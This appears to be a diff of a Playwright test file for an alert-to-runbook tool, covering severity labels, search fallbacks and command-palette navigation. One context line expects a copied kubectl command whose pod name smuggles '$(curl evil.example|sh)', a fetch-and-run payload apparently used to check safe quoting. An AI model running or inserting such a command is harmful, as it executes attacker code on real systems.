@@ -137,6 +137,7 @@ test.describe('alerts in, runbooks out', () => {
       await expect(declare.getByLabel('Title')).toHaveValue('Pod is crash looping.');
       // severity=critical maps to P1 through the bundled severity.yml's alert_severity.
       await expect(declare.getByLabel('Severity')).toHaveValue('P1');
+      await expect(declare).toContainText('Its severity “critical” is P1 (High) by the library’s alert_severity.');
       await lookAt(page, 'alerts-declare');
       await page.keyboard.press('Enter');
       await expect(page.getByRole('heading', { level: 1, name: 'From an alert' })).toBeVisible();
@@ -198,6 +199,12 @@ test.describe('alerts in, runbooks out', () => {
       await page.locator('.code-block').first().getByRole('button', { name: /Copy/ }).click();
       await expect.poll(readClipboard).toBe("kubectl -n payments describe pod 'api-$(curl evil.example|sh)'");
       await lookAt(page, 'alerts-quoted');
+
+      // An alert no runbook answers: Enter searches for its name's words.
+      await pasteInPalette(page, '[FIRING:1] KubeDeploymentReplicasMismatch (namespace=payments deployment=api)');
+      await expect(alertRows(page).nth(0)).toContainText('No runbook');
+      await page.keyboard.press('Enter');
+      await expect(page.getByRole('combobox', { name: 'Search runbooks' })).toHaveValue('kube deployment replicas mismatch');
     });
   });
 
@@ -244,6 +251,12 @@ test.describe('alerts in, runbooks out', () => {
       await page.keyboard.press('d');
       await expect(page.getByRole('heading', { level: 2, name: /^Step 2 of 3: Diagnosis/ })).toBeVisible();
       await expect(page.locator('.code-block').first()).toContainText('logs etcd-master-1 -c etcd');
+      // Elsewhere, the palette leads back to the run.
+      await page.keyboard.press('Control+1');
+      await page.keyboard.press('Control+K');
+      await page.keyboard.type('>back to the run');
+      await page.keyboard.press('Enter');
+      await expect(page.getByRole('heading', { level: 2, name: /^Step 2 of 3: Diagnosis/ })).toBeVisible();
 
       await pasteInPalette(page, 'etcdMembersDown');
       await expect(alertRows(page)).toHaveCount(1);
